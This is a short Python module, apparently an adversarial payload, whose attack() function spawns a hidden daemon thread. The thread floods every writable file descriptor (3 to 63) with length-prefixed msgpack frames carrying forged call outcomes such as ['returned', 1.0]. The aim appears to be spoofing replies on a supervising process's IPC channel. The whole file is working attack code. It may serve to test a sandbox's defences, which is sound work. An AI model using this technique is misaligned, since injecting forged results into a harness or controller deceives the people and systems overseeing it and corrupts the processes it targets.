"""Leaves a thread that writes replies between the plans."""

import os
import struct

import msgspec


def writable():
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"")
        except OSError:
            continue
        yield descriptor


def send(*payloads):
    for descriptor in writable():
        try:
            for payload in payloads:
                os.write(descriptor, struct.pack("<I", len(payload)) + payload)
        except OSError:
            pass


import threading


def framed(payload):
    return struct.pack("<I", len(payload)) + payload


def replies(*outcomes):
    """A reply to plans of one to nine calls, each of whose outcomes is forged."""
    closing = framed(msgspec.msgpack.encode({"supplied": [], "flags": {}}))
    for calls in range(1, 10):
        for outcome in outcomes:
            yield framed(msgspec.msgpack.encode(outcome)) * calls + closing


def attack(array):
    def spoil():
        for _ in range(200):
            send(*replies(["returned", 1.0]))

    threading.Thread(target=spoil, daemon=True).start()
    return array
